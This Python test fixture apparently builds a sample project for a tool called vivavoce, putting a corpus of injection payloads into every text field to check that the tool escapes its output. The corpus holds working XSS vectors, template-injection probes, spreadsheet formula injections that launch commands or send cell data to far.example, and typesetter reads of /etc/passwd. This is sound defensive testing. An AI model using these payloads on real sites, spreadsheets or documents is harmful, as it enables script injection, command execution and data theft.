"""A project in which every place that holds words holds what a browser, a spreadsheet or a typesetter might obey."""

from __future__ import annotations

import base64
import html
import json
import re
import struct
import zlib
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any
from urllib.parse import quote

from vivavoce import binding, desk
from vivavoce.build import update
from vivavoce.model import Role
from vivavoce.project import Project, open_project

FAR = "http://far.example"
DO = "window.pwned=1"
B64 = base64.b64encode(f"<script>{DO}</script>".encode()).decode()

CORPUS = (
    f"<script>{DO}</script>",
    f"</script><script>{DO}</script>",
    f"<ScRiPt/x>{DO}</ScRiPt\t>",
    f"<scr<script>ipt>{DO}</scr</script>ipt>",
    f"<script src={FAR}/a.js></script>",
    f"<script type=module>{DO}</script>",
    f"<img src=x onerror={DO}>",
    f'"><img src=x onerror="{DO}">',
    f"'><img src=x onerror='{DO}'>",
    f"<img src={FAR}/a.png>",
    f"<svg onload={DO}>",
    f"<svg><script>{DO}</script></svg>",
    f"<svg><animate onbegin={DO} attributeName=x dur=1s>",
    f"<svg><use href='data:image/svg+xml;base64,{B64}#x'/></svg>",
    f"<math><mtext></mtext><mglyph><style><img src onerror={DO}>",
    f"<math href='javascript:{DO}'>go</math>",
    f"<body onload={DO}>",
    f"<details open ontoggle={DO}>",
    f"<input autofocus onfocus={DO}>",
    f"<video><source onerror={DO}>",
    f"<iframe srcdoc='<script>parent.{DO}</script>'></iframe>",
    f"<iframe src='javascript:parent.{DO}'></iframe>",
    f"<object data='data:text/html;base64,{B64}'></object>",
    f"<base href='{FAR}/'>",
    f"<meta http-equiv=refresh content='0;url={FAR}/'>",
    f"<link rel=stylesheet href={FAR}/a.css>",
    f"<style>@import '{FAR}/b.css';</style>",
    f"<form action={FAR}/><button autofocus>go</button></form>",
    f"<template><script>{DO}</script></template>",
    f"<noscript><p title='</noscript><img src=x onerror={DO}>'>",
    f"<!--><script>{DO}</script>-->",
    f"]]><script>{DO}</script><![CDATA[",
    f"&lt;script&gt;{DO}&lt;/script&gt;",
    f"&#60;img src=x onerror={DO}&#62;",
    f"\\u003cscript\\u003e{DO}\\u003c/script\\u003e",
    f"javascript:{DO}",
    f"data:text/html;base64,{B64}",
    f"[go](javascript:{DO})",
    f'![x]({FAR}/c.png "\' onerror={DO}")',
    f"<a href='java&#9;script:{DO}'>go</a>",
    f'" onmouseover="{DO}" autofocus onfocus="{DO}',
    f"` onerror={DO} `",
    "{{ 7*7 }} {% raw %} ${7*7} <%= 7*7 %> #{7*7}",
    f"{{{{constructor.constructor('{DO}')()}}}}",
    "=cmd|'/c calc'!A1",
    f'=HYPERLINK("{FAR}/?"&A1,"go")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '#read("/etc/passwd") #eval("1+1") $x$ `raw`',
    '#image("/etc/passwd") @label <label> \\u{0}',
    f"\u202e>tpircs/<{DO}\u202c \u2066x\u2069",
    f"\ufeff<\u200bscript>{DO}</script>",
)
"""What is planted: tags, handlers, addresses, SVG and MathML, the signs of templates, spreadsheets, Markdown and
typesetters, ends of comments and scripts, entities, turned text."""

SEEN = "pwned"
FORMULAS = tuple("=+-@\t\r\n＝＋－＠")


def escaped(words: str) -> str:
    """Words as Markdown has them that stand for themselves."""
    return re.sub(r"([!-/:-@\[-`{-~])", r"\\\1", words)


def png() -> bytes:
    """A grey picture of 4 by 4 pixels."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    rows = zlib.compress(b"".join(b"\x00" + b"\x7f" * 4 for _ in range(4)))
    head = struct.pack(">IIBBBBB", 4, 4, 8, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", rows) + chunk(b"IEND", b"")


def file_name(words: str) -> str:
    """Words as a file's name: all that a disk allows."""
    return words.replace("/", "⁄").replace("\x00", "")[:80].strip(". ") or "x"


def toml(words: str) -> str:
    """Words as a TOML string (JSON's escapes are TOML's)."""
    return json.dumps(words, ensure_ascii=False)


def nth(n: int) -> str:
    return CORPUS[n % len(CORPUS)]


def sources(folder: Path) -> None:
    """The sources: each string as something said, as a label, as a file's name, a title, a caption, a quotation."""
    put = lambda path, text: (folder / path).write_bytes(text.encode("utf-8", "replace"))  # noqa: E731
    rows = [
        {"start": 5.0 * n, "end": 5.0 * n + 4, "speaker": f"S{n}", "text": f"It was dark {c} and cold."}
        for n, c in enumerate(CORPUS)
    ]
    put("whole.json", json.dumps({"segments": rows}))
    who = "\n".join(f"S{n} = {toml(c)}" for n, c in enumerate(CORPUS))
    put(
        "whole.toml",
        f'v = 1\ntitle = {toml(nth(0))}\npublisher = {toml(nth(6))}\ndate = "2020-03-01"\n[speakers]\n{who}\n',
    )
    for n, c in enumerate(CORPUS):
        name = f"{n:02} {file_name(c)}"
        cues = f"00:01.000 --> 00:04.000\n<v Ann Reed>{html.escape(c)} was on 3 May 1974.\n\n"
        cues += f"00:05.000 --> 00:09.000\n<v {html.escape(c)}>There were {n + 3} lamps.\n"
        if n % 3 == 0:
            put(f"{name}.vtt", f"WEBVTT\n\n{cues}")
        elif n % 3 == 1:
            said = f"“The crane fell {c} on Friday,” said Tom Bell. "
            said += f"“There were nine {nth(n + 7)} lamps,” said {nth(n + 9)}."
            put(
                f"{name}.txt",
                f"{nth(n + 1)}\n\n{nth(n + 2)}\n\nBy {nth(n + 3)}\n\nThe crane of the yard fell.\n\n{said}\n\n{c}\n",
            )
        else:
            e = html.escape
            body = f"<h1>{e(nth(n + 1))}</h1><p>The crane fell.</p><p>“It fell {e(c)} on Friday,” said Tom Bell.</p>"
            body += (
                f"<figure><img src=x alt='{e(nth(n + 4))}'><figcaption>“{e(nth(n + 5))}” said Ann Reed.</figcaption>"
            )
            put(f"{name}.html", f"<html><title>{e(c)}</title><article>{body}</figure>{c}</article></html>")
        told = {"title": nth(n + 11), "publisher": nth(n + 12), "byline": nth(n + 13), "licence": nth(n + 14)}
        address = f"https://x.example/{nth(n + 15)}".replace(" ", "%20")
        put(
            f"{name}.toml",
            "v = 1\n" + "".join(f"{k} = {toml(v)}\n" for k, v in told.items()) + f"address = {toml(address)}\n",
        )
    put(
        "notes.md", "**Ann Reed:** Where were you?\n\n" + "\n\n".join(f"**Tom Bell:** At the gate. {c}" for c in CORPUS)
    )


def pictures(folder: Path) -> None:
    """Pictures under each name, with each string as what is seen, credit, title, whom it shows."""
    folder.mkdir()
    for n, c in enumerate(CORPUS):
        name = f"{n:02} {file_name(c)}"
        (folder / f"{name}.png").write_bytes(png())
        told = {"alt": c, "credit": nth(n + 1), "licence": nth(n + 2), "title": nth(n + 3)}
        of = ["cover", "Tom Bell", nth(n + 4)][n % 3]
        rows = "".join(f"{k} = {toml(v)}\n" for k, v in told.items())
        (folder / f"{name}.toml").write_text(f"v = 1\n{rows}of = [{toml(of)}]\n", "utf-8")
    bad = (
        f'<svg xmlns="http://www.w3.org/2000/svg" onload="{DO}"><script>{DO}</script><image href="{FAR}/d.png"/></svg>'
    )
    (folder / "act.svg").write_text(bad)
    (folder / "act.toml").write_text('v = 1\nalt = "x"\ncredit = "x"\nlicence = "x"\nof = ["cover"]\n')


def settings() -> str:
    """The settings: the history's own words, its works and people."""
    works = "".join(
        f'[[works]]\ntitle = {toml(c)}\nkind = "film"\naliases = [{toml(nth(n + 2) + " too")}]\n'
        for n, c in enumerate(CORPUS)
    )
    people = "".join(
        f"[[people]]\nname = {toml('Ann ' + c)}\naliases = [{toml(nth(n + 3) + ' Ray')}]\n"
        for n, c in enumerate(CORPUS[::4])
    )
    head = f"v = 1\ntitle = {toml(nth(1))}\nsubtitle = {toml(nth(7))}\nintroduction = {toml(chr(10).join(CORPUS))}\n"
    book = f"[book]\nauthor = {toml(nth(6))}\ndedication = {toml(nth(8))}\n"
    return f'{head}[site]\naddress = "https://x.example/h/"\n{book}{works}{people}'


def decided(project: Project) -> int:
    """Decisions with each string: names, other names, roles, titles, notes, corrections, who said it; how many."""
    held = desk.Held(project, desk._all(project))
    by, count = nth(6), 0
    people = [p for p in held.everybody.people if p.name in ("Ann Reed", "Tom Bell")] + list(held.everybody.people)[:12]
    for n, does in enumerate(_decisions(held, people, by)):
        try:
            does()
            count += 1
        except Exception as e:  # what cannot be decided is refused in a sentence
            assert type(e).__module__.startswith("vivavoce"), (n, repr(e))
    return count


def _decisions(held: Any, people: list[Any], by: str) -> Iterator[Any]:
    moments, quotes = held.everybody.moments[:16], held.everybody.quotes
    for n, p in enumerate(people):
        yield lambda p=p, n=n: desk.alias(held, p.id, nth(n + 20), by)
        yield lambda p=p, n=n: desk.role(held, p.id, Role(nth(n), nth(n + 1), nth(n + 2), nth(n + 3)), by)
    for p in (p for p in people if p.name == "Ann Reed"):
        yield lambda p=p: desk.pseudonym(held, p.id, nth(7), by)
    for n, p in enumerate(people[3:8]):
        yield lambda p=p, n=n: desk.name(held, p.id, nth(n + 25), by)
    for n, m in enumerate(moments):
        yield lambda m=m, n=n: desk.title(held, m.id, nth(n * 3), by)
        yield lambda m=m, n=n: desk.note(held, m.id, nth(n * 3 + 1), by)
    for n, q in enumerate(quotes[:40]):
        yield lambda q=q, n=n: desk.speaker(held, q.id, nth(n), by)
        yield lambda q=q, n=n: desk.noted(held, q.id, nth(n + 1), by)
        yield lambda q=q, n=n: desk.correct(held, q.source, q.text.split()[0], nth(n + 5), by, q.spans[0])


def arrangement(project: Project, day: str, spell: Callable[[str], str] = str) -> None:
    """`book.md`: what is drafted, with each string as heading, narration, picture's text."""
    file = project.arrangement
    file.unlink(missing_ok=True)
    binding.draft(project, day)
    text = file.read_text("utf-8") if file.exists() else "<!-- vivavoce book 1 -->\n"
    names = sorted(p.name for p in (Path(project.home) / "pictures").glob("*.png"))
    all_ = [spell(c) for c in CORPUS]
    nth = lambda n: all_[n % len(all_)]  # noqa: E731
    more = [
        f"# {c}\n\n{c}\n\n## {nth(n + 1)}\n\n- {nth(n + 2)}\n\n*{nth(n + 3)}* **{nth(n + 4)}**\n\n"
        f'![{nth(n + 5)}](pictures/{quote(names[n % len(names)])} "{escaped(CORPUS[(n + 6) % len(CORPUS)])}")\n'
        for n, c in enumerate(all_)
    ]
    file.write_text(text + "\n" + "\n".join(more), "utf-8")


def planted(folder: Path, day: str) -> Project:
    """The project, built."""
    (folder / "sources").mkdir(parents=True)
    sources(folder / "sources")
    pictures(folder / "pictures")
    (folder / "vivavoce.toml").write_text(settings(), "utf-8")
    project = open_project(folder)
    update(project)
    assert decided(project) > 60
    update(project)
    arrangement(project, day)
    return project
